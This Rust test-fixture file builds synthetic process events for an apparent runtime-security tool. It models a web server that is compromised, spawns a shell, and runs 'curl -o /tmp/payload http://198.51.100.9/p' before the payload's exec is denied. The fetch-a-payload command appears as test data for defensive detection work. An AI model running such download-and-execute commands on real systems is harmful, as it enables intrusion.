//! Synthetic events for the tests: a small node with a web server.
#![allow(dead_code)]

use std::net::SocketAddr;

use driftwall_ctxgraph::{
    Credentials, Decision, Event, Exec, Executable, ProcessEventKind, ProcessKey, Target, Verdict,
};

pub const BOOT: u128 = 0x3f2a_9c1e_0000_4b7d_a1b2_c3d4_e5f6_0718;
/// 2026-11-22T22:43:43Z
pub const T0: u64 = 1_795_387_423_000_000_000;
pub const SEC: u64 = 1_000_000_000;

pub fn key(tgid: u32, start_time_ns: u64) -> ProcessKey {
    ProcessKey {
        boot_id: BOOT,
        tgid,
        start_time_ns,
    }
}

pub fn exec(time_ns: u64, process: ProcessKey, path: &str, argv: &[&str], uid: u32) -> Event {
    exec_in(time_ns, process, path, argv, uid, 45, Some("demo-web"))
}

pub fn exec_in(
    time_ns: u64,
    process: ProcessKey,
    path: &str,
    argv: &[&str],
    uid: u32,
    cgroup_id: u64,
    workload: Option<&str>,
) -> Event {
    Event::exec(
        time_ns,
        process,
        Exec {
            executable: Executable {
                path: path.to_owned(),
                dev: 27,
                ino: path.len() as u64,
            },
            argv: argv.iter().map(|s| s.to_string()).collect(),
            cwd: "/srv/www".to_owned(),
            credentials: Credentials {
                uid,
                euid: uid,
                gid: uid,
            },
            cgroup_id,
            workload: workload.map(str::to_owned),
        },
    )
}

pub fn addr(s: &str) -> SocketAddr {
    s.parse().expect("test address")
}

pub fn deny_exec(time_ns: u64, process: ProcessKey, path: &str) -> Event {
    Event::process_event(
        time_ns,
        process,
        ProcessEventKind::Decision(Decision {
            verdict: Verdict::Deny,
            hook: "exec".to_owned(),
            workload: Some("demo-web".to_owned()),
            target: Target::Path(path.to_owned()),
            rule: "demo-web/process.executables".to_owned(),
        }),
    )
}

/// The processes of the web-server story.
pub struct Story {
    pub init: ProcessKey,
    pub web: ProcessKey,
    pub shell: ProcessKey,
    pub downloader: ProcessKey,
    pub payload: ProcessKey,
    pub deny_time: u64,
    pub events: Vec<Event>,
}

/// A listener accepts a connection from 203.0.113.7:40000, forks a shell, the shell runs
/// a downloader, which fetches /tmp/payload and tries to exec it: denied.
pub fn web_server_story() -> Story {
    let init = key(1, 10);
    let web = key(100, 5 * SEC);
    let shell = key(2000, 100 * SEC);
    let downloader = key(2001, 101 * SEC);
    let payload = key(2002, 102 * SEC);
    let t = |s: u64, ms: u64| T0 + s * SEC + ms * 1_000_000;
    let deny_time = t(100, 700);
    let events = vec![
        exec_in(t(0, 0), init, "/sbin/init", &["/sbin/init"], 0, 1, None),
        Event::fork(t(1, 0), init, web),
        exec(
            t(1, 1),
            web,
            "/opt/demo/bin/web-server",
            &["web-server", "--port", "8080"],
            33,
        ),
        Event::process_event(
            t(2, 0),
            web,
            ProcessEventKind::Listen {
                local: addr("0.0.0.0:8080"),
            },
        ),
        Event::process_event(
            t(50, 0),
            web,
            ProcessEventKind::Accept {
                listener: addr("0.0.0.0:8080"),
                local: addr("10.0.0.5:8080"),
                remote: addr("198.51.100.77:51000"),
            },
        ),
        Event::process_event(
            t(100, 0),
            web,
            ProcessEventKind::Accept {
                listener: addr("0.0.0.0:8080"),
                local: addr("10.0.0.5:8080"),
                remote: addr("203.0.113.7:40000"),
            },
        ),
        Event::fork(t(100, 100), web, shell),
        exec(
            t(100, 101),
            shell,
            "/bin/sh",
            &["sh", "-c", "curl -o /tmp/payload http://198.51.100.9/p"],
            33,
        ),
        Event::fork(t(100, 200), shell, downloader),
        exec(
            t(100, 201),
            downloader,
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/payload", "http://198.51.100.9/p"],
            33,
        ),
        Event::process_event(
            t(100, 300),
            downloader,
            ProcessEventKind::Connect {
                local: addr("10.0.0.5:43210"),
                remote: addr("198.51.100.9:80"),
            },
        ),
        Event::fork(t(100, 600), downloader, payload),
        deny_exec(deny_time, payload, "/tmp/payload"),
        Event::exit(t(100, 710), payload, 126 << 8),
        Event::exit(t(100, 800), downloader, 0),
    ];
    Story {
        init,
        web,
        shell,
        downloader,
        payload,
        deny_time,
        events,
    }
}

/// The decision event of the story, as the enforcer reported it.
pub fn story_decision(story: &Story) -> driftwall_ctxgraph::ProcessEvent {
    match deny_exec(story.deny_time, story.payload, "/tmp/payload") {
        Event::Process(e) => e,
        _ => unreachable!("deny_exec builds a process event"),
    }
}
